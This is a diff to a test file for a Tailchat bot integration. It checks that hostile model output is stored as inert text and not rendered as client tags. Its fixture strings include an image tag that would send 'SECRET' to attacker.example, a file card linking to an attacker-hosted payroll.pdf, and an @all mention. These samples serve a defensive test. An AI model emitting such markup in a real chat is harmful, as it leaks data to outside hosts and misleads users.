@@ -48,13 +48,13 @@ describe('hostile output and intake on the real Tailchat', () => {
     const stored = (await conv.botMessages()).find((m) => m._id === final._id);
     expect(stored).toBeDefined();
 
-    // What the model wrote is all there, as text.
+    // Nothing in it is a tag to Tailchat's web client: no image load, no card, no mention.
+    expect(actedTags(stored!.content)).toEqual([]);
+    // And what the model wrote is all there, as text.
     expect(stored!.content).toContain('［img\turl=https://attacker.example/p.png?d=SECRET］https://attacker.example/p.png?d=SECRET［/img］');
     expect(stored!.content).toContain('［card\ttype=file url=https://attacker.example/payroll.pdf］payroll.pdf［/card］');
     expect(stored!.content).toContain('［at=all］everyone［/at］');
     expect(stored!.content).toContain('an index a[i] and a [markdown link](https://docs.example)');
-    // And nothing in it is a tag to Tailchat's web client: no image load, no card, no mention.
-    expect(actedTags(stored!.content)).toEqual([]);
 
     // The live draft bob's client showed while it streamed was inert too.
     const drafts = ['notify:chat.message.add', 'notify:chat.message.update']
